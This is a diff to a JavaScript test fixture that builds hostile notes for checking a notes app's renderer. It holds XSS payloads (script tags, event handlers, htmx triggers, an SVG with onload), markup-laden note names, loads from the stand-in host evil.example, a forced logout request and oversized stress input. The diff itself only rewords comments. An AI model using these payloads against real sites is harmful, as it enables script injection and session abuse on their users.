@@ -1,11 +1,10 @@
-// Notes that mean harm: each tries to run a script, to load something from
-// elsewhere, or to take the page over. Whatever runs calls pwned(), which the
-// checks define; whatever loads asks evil.example, which they watch for.
+// Hostile notes: each tries to run a script, to load something from another host, or to take over the page. Scripts call
+// pwned(), which the checks define; requests go to evil.example, which the checks watch for.
 import { write } from "./vaults.mjs";
 
 const far = "https://evil.example";
 
-// attacks by what they try.
+// attacks are notes by what they try.
 const attacks = {
   "Scripts": `<script>pwned()</script>\n\n<script src="${far}/a.js"></script>\n\n<SCRIPT\n>pwned()</SCRIPT>\n\ntext <script>pwned()</script> text\n\n<svg><script>pwned()</script></svg>\n\n<math><mtext><script>pwned()</script></mtext></math>\n`,
   "Handlers": `<img src=x onerror=pwned()>\n\n<body onload=pwned()>\n\n<details open ontoggle=pwned()>x</details>\n\n<input autofocus onfocus=pwned()>\n\n<a href=x onmouseover=pwned()>x</a>\n\n<div hx-on:load="pwned()" hx-get="${far}/h" hx-trigger="load">x</div>\n\n<div data-hx-get="/logout" data-hx-trigger="load"></div>\n`,
@@ -20,13 +19,13 @@ const attacks = {
   "Long": "word ".repeat(300) + "\n\n" + "x".repeat(5000) + "\n\n|" + " column |".repeat(60) + "\n|" + "---|".repeat(60) + "\n" + ("|" + " a cell of some width |".repeat(60) + "\n").repeat(200) + "\n" + "> ".repeat(500) + "deep\n\n" + "[".repeat(3000) + "\n\n" + "*a **b ".repeat(2000) + "\n",
 };
 
-// picture is an SVG that would run and load, were it shown as a page.
+// picture is an SVG that would run scripts and load files if it were shown as a page.
 const picture = `<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><script>pwned()</script><image href="${far}/n.png"/></svg>`;
 
-// evilNames are notes whose very names are markup.
+// evilNames are names of notes that contain markup.
 export const evilNames = ["<img src=x onerror=pwned()>", "\"><script>pwned()<", "' onmouseover='pwned()", "{{7*7}} ${pwned()}", "javascript:pwned()"];
 
-// word is in every note, so that one search shows them all.
+// word is in every note, so that one search finds them all.
 export const word = "mischief";
 
 export const names = Object.keys(attacks);
